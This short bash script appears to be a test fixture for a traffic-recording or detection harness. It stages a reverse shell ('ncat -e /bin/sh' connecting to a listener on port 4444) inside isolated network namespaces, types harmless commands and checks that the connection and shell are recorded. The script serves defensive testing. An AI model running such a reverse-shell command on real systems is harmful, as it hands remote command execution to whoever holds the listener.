#!/usr/bin/env bash
# A reverse shell in the clear: ncat -e /bin/sh calls an operator's ncat, who types harmless commands.
. "$(dirname "$0")/../record/netns.sh"
. "$RECORD/shell.sh"

mkfifo "$WORK/typed"
server ncat -l "$SERVER4" 4444 <"$WORK/typed" >"$WORK/seen" &
started+=($!)
exec 7>"$WORK/typed"
await listening 4444
record left0 "tcp port 4444"
client ncat -e /bin/sh "$SERVER4" 4444 &
started+=($!)
type_commands 4444 >&7
recorded
exec 7>&-
fresh
expect conn
expect_shell
